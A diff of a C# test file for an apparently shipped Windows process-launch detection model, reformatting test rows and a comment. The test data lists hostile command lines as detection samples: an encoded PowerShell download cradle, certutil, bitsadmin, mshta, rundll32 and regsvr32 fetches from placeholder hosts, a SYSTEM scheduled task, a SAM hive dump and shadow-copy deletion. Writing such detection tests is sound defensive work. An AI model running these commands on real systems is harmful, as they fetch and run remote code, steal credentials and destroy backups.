@@ -19,14 +19,20 @@ public class ShippedModelTests
     private const string PowerShell = System32 + @"WindowsPowerShell\v1.0\";
 
     [Theory]
-    [InlineData(Office + "WINWORD.EXE", PowerShell + "powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhACcAKQA=")]
-    [InlineData(Office + "WINWORD.EXE", System32 + "certutil.exe", @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt")]
+    [InlineData(Office + "WINWORD.EXE", PowerShell + "powershell.exe",
+        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhACcAKQA=")]
+    [InlineData(Office + "WINWORD.EXE", System32 + "certutil.exe",
+        @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt")]
     [InlineData(Office + "EXCEL.EXE", System32 + "mshta.exe", "mshta http://203.0.113.9/update.hta")]
-    [InlineData(System32 + "cmd.exe", System32 + "rundll32.exe", @"rundll32.exe javascript:""\..\mshtml,RunHTMLApplication "";document.write();GetObject(""script:http://203.0.113.9/x"")")]
+    [InlineData(System32 + "cmd.exe", System32 + "rundll32.exe",
+        @"rundll32.exe javascript:""\..\mshtml,RunHTMLApplication "";document.write();GetObject(""script:http://203.0.113.9/x"")")]
     [InlineData(System32 + "cmd.exe", System32 + "regsvr32.exe", "regsvr32 /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll")]
-    [InlineData(System32 + "cmd.exe", System32 + @"wbem\WMIC.exe", @"wmic /node:srv02 process call create ""cmd /c C:\Users\Public\run.bat""")]
-    [InlineData(System32 + "cmd.exe", System32 + "bitsadmin.exe", @"bitsadmin /transfer job /download /priority high http://203.0.113.9/p.exe C:\Users\Public\p.exe")]
-    [InlineData(PowerShell + "powershell.exe", System32 + "schtasks.exe", @"schtasks /create /sc minute /mo 5 /tn Upd /tr ""wscript C:\Users\Public\u.vbs"" /ru SYSTEM /f")]
+    [InlineData(System32 + "cmd.exe", System32 + @"wbem\WMIC.exe",
+        @"wmic /node:srv02 process call create ""cmd /c C:\Users\Public\run.bat""")]
+    [InlineData(System32 + "cmd.exe", System32 + "bitsadmin.exe",
+        @"bitsadmin /transfer job /download /priority high http://203.0.113.9/p.exe C:\Users\Public\p.exe")]
+    [InlineData(PowerShell + "powershell.exe", System32 + "schtasks.exe",
+        @"schtasks /create /sc minute /mo 5 /tn Upd /tr ""wscript C:\Users\Public\u.vbs"" /ru SYSTEM /f")]
     [InlineData(System32 + "cmd.exe", System32 + "reg.exe", @"reg save HKLM\SAM C:\Windows\Temp\sam.hiv")]
     [InlineData(PowerShell + "powershell.exe", System32 + "cmd.exe", @"""C:\Windows\system32\cmd.exe"" /c vssadmin delete shadows /all /quiet")]
     [InlineData(System32 + "cmd.exe", System32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet")]
@@ -84,7 +90,9 @@ public class ShippedModelTests
         Assert.Equal("2026.11.3", Model.Identity.Version);
     }
 
-    /// <summary>The aims that are reached, as the training measured them on held-out rows; docs/model-card.md has those that are not.</summary>
+    /// <summary>
+    /// The aims that are reached, as the training measured them on held-out rows; docs/model-card.md has those that are not.
+    /// </summary>
     [Theory]
     [InlineData("recordedTuples.rocAuc", 0.98, 1)]
     [InlineData("recordedTuples.recallAt1Percent", 0.90, 1)]
